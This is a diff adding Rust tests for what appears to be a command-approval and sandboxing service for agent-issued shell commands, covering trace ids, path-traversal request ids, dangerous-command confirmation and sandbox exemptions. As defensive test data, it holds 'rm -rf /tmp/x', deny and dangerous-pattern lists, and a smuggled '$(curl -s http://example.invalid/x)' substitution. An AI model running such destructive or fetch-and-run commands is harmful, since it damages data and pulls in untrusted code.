+        let writer = logs.clone();
+        let subscriber = tracing_subscriber::fmt()
+            .with_ansi(false)
+            .with_writer(move || writer.clone())
+            .finish();
+        let _guard = tracing::subscriber::set_default(subscriber);
+
+        let dir = temp_dir("octovalve-trace");
+        let (intake, command_tx) =
+            test_intake(&dir, "[whitelist]\nallowed = [\"ls\"]\ndenied = [\"rm\"]\n");
+
+        // 直接被策略拒绝：旧版 proxy 没带追踪 id，由 console 生成并带回。
+        let denied = intake
+            .submit(
+                traced_request("req-denied", "rm -rf /tmp/x", None),
+                "127.0.0.1:1",
+            )
+            .await
+            .expect_err("denied by policy");
+        let trace_id = denied.trace_id.clone().expect("generated trace id");
+        for event in ["command.request_received", "command.request_denied_policy"] {
+            let line = logs.line(event).expect(event);
+            assert!(line.contains(&trace_id), "{line}");
+        }
+        let request = read_record(dir.join("req-denied.request.json")).await;
+        assert_eq!(request["trace_id"], trace_id.as_str());
+        let result = read_record(dir.join("req-denied.result.json")).await;
+        assert_eq!(result["trace_id"], trace_id.as_str());
+
+        // 进入审批队列后由操作员拒绝：沿用 proxy 给的 id。
+        let response_rx = intake
+            .submit(
+                traced_request("req-queued", "ls /tmp", Some("trace-queued")),
+                "127.0.0.1:1",
+            )
+            .await
+            .expect("queued");
+        for _ in 0..200 {
+            if logs.line("request_queued").is_some() {
+                break;
+            }
+            tokio::time::sleep(Duration::from_millis(10)).await;
+        }
+        let queued = logs.line("request_queued").expect("queued log");
+        assert!(queued.contains("trace-queued"), "{queued}");
+        command_tx
+            .send(ControlCommand::Deny {
+                id: "req-queued".to_string(),
+                actor: "alice".to_string(),
+                reason: None,
+            })
+            .await
+            .expect("deny");
+        let response = response_rx.await.expect("response");
+        assert_eq!(response.trace_id.as_deref(), Some("trace-queued"));
+        let line = logs.line("\"request_denied\"").expect("denied log");
+        assert!(line.contains("trace-queued"), "{line}");
+        let result = read_record(dir.join("req-queued.result.json")).await;
+        assert_eq!(result["trace_id"], "trace-queued");
+        std::fs::remove_dir_all(&dir).ok();
+    }
+
+    #[tokio::test]
+    async fn rejects_unsafe_and_reused_request_ids() {
+        use super::super::test_utils::temp_dir;
+
+        let dir = temp_dir("octovalve-request-id");
+        let (intake, _command_tx) =
+            test_intake(&dir, "[whitelist]\nallowed = [\"ls\"]\ndenied = [\"rm\"]\n");
+
+        for id in ["", "../escape", "nested/req", "nested\\req", "a..b"] {
+            let response = intake
+                .submit(traced_request(id, "ls /tmp", None), "127.0.0.1:1")
+                .await
+                .expect_err("invalid id");
+            assert_eq!(response.status, protocol::CommandStatus::Error, "{id}");
+        }
+        assert!(!dir.parent().unwrap().join("escape.request.json").exists());
+        assert!(!dir.join("nested").exists());
+
+        // 仍在待审批队列中的 id 不能再提交一次。
+        let _queued = intake
+            .submit(traced_request("req-1", "ls /tmp", None), "127.0.0.1:1")
+            .await
+            .expect("queued");
+        for _ in 0..200 {
+            if intake.state.read().await.request_in_flight("dev", "req-1") {
+                break;
+            }
+            tokio::time::sleep(Duration::from_millis(10)).await;
+        }
+        let reused = intake
+            .submit(traced_request("req-1", "ls /", None), "127.0.0.1:1")
+            .await
+            .expect_err("id still pending");
+        assert!(reused.error.unwrap().contains("already in use"));
+
+        // 已写入历史的 id（这里是被策略直接拒绝的请求）同样拒绝，不覆盖原有记录。
+        intake
+            .submit(
+                traced_request("req-2", "rm -rf /tmp/x", None),
+                "127.0.0.1:1",
+            )
+            .await
+            .expect_err("denied by policy");
+        let store = intake.history_store("dev").expect("history store");
+        for _ in 0..200 {
+            if store.lock().await.contains("req-2") {
+                break;
+            }
+            tokio::time::sleep(Duration::from_millis(10)).await;
+        }
+        let reused = intake
+            .submit(traced_request("req-2", "ls /tmp", None), "127.0.0.1:1")
+            .await
+            .expect_err("id already in history");
+        assert!(reused.error.unwrap().contains("already in use"));
+        let record = read_record(dir.join("req-2.request.json")).await;
+        assert_eq!(record["raw_command"], "rm -rf /tmp/x");
+        std::fs::remove_dir_all(&dir).ok();
+    }
+
+    #[tokio::test]
+    async fn approve_confirmation_is_checked_by_the_service() {
+        use super::super::test_utils::temp_dir;
+        use crate::state::EditRejection;
+
+        let dir = temp_dir("octovalve-approve-confirm");
+        let (intake, command_tx) = test_intake(
+            &dir,
+            "[whitelist]\nallowed = [\"rm\"]\ndangerous_patterns = [\"rm -rf\"]\n",
+        );
+        let response_rx = intake
+            .submit(
+                traced_request("req-danger", "rm -rf /tmp/x", None),
+                "127.0.0.1:1",
+            )
+            .await
+            .expect("queued");
+        for _ in 0..200 {
+            if intake
+                .state
+                .read()
+                .await
+                .request_in_flight("dev", "req-danger")
+            {
+                break;
+            }
+            tokio::time::sleep(Duration::from_millis(10)).await;
+        }
+        let approve = |id: &str, confirmed| {
+            let (respond_to, rx) = oneshot::channel();
+            let command = ControlCommand::Approve {
+                id: id.to_string(),
+                actor: "alice".to_string(),
+                confirmed,
+                respond_to: Some(respond_to),
+            };
+            (command, rx)
+        };
+
+        // 未回显 id 的高危请求由 service 拒绝放行，留在队列里。
+        let (command, rx) = approve("req-danger", false);
+        command_tx.send(command).await.expect("approve");
+        assert_eq!(
+            rx.await.expect("outcome"),
+            Err(EditRejection::ConfirmationRequired)
+        );
+        let (command, rx) = approve("req-missing", true);
+        command_tx.send(command).await.expect("approve");
+        assert_eq!(rx.await.expect("outcome"), Err(EditRejection::NotFound));
+
+        command_tx
+            .send(ControlCommand::Deny {
+                id: "req-danger".to_string(),
+                actor: "alice".to_string(),
+                reason: None,
+            })
+            .await
+            .expect("deny");
+        let response = response_rx.await.expect("still queued until denied");
+        assert_eq!(response.status, protocol::CommandStatus::Denied);
+        std::fs::remove_dir_all(&dir).ok();
+    }
+
+    #[tokio::test]
+    async fn unparseable_requests_drop_the_declared_pipeline() {
+        use super::super::test_utils::temp_dir;
+
+        let dir = temp_dir("octovalve-unparseable");
+        let (intake, _command_tx) = test_intake(
+            &dir,
+            r#"
+[whitelist]
+allowed = ["systemctl"]
+on_unparseable = "manual"
+
+[sandbox]
+enabled = true
+wrapper = ["firejail", "--quiet"]
+exempt_commands = ["systemctl"]
+"#,
+        );
+        // 声明的 pipeline 命中 exempt_commands，但 raw_command 里的命令替换服务端看不透。
+        let mut request = traced_request("req-unparseable", "systemctl status", None);
+        request.raw_command = "$(curl -s http://example.invalid/x)".to_string();
+        let sandbox = intake.policy.current().sandbox.clone();
+        assert!(sandbox.wrapper_for(&request).is_none());
+
+        let _response_rx = intake
+            .submit(request.clone(), "127.0.0.1:1")
+            .await
+            .expect("queued for manual approval");
+        let record = read_record(dir.join("req-unparseable.request.json")).await;
+        assert_eq!(record["pipeline"], serde_json::json!([]));
+        request.pipeline.clear();
+        assert_eq!(
+            sandbox.wrapper_for(&request),
+            Some(["firejail".to_string(), "--quiet".to_string()].as_slice())
+        );
+        std::fs::remove_dir_all(&dir).ok();
+    }
+
+    #[tokio::test]
+    async fn command_server_reports_listening_only_after_bind() {
+        use super::super::test_utils::temp_dir;
+
+        let dir = temp_dir("octovalve-listening");
+        let (intake, _command_tx) = test_intake(&dir, "[whitelist]\nallowed = [\"ls\"]\n");
+        let intake = Arc::new(intake);
+        assert!(!intake.command_server_listening());
+
+        // 端口被占用时绑定失败，状态保持未监听。
+        let taken = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let addr = taken.local_addr().unwrap();
+        assert!(spawn_command_server(addr, None, Arc::clone(&intake), None)
+            .await
+            .is_err());
+        assert!(!intake.command_server_listening());
+
+        drop(taken);
+        spawn_command_server(addr, None, Arc::clone(&intake), None)
+            .await
+            .expect("bind");
+        assert!(intake.command_server_listening());
+        std::fs::remove_dir_all(&dir).ok();
+    }
+}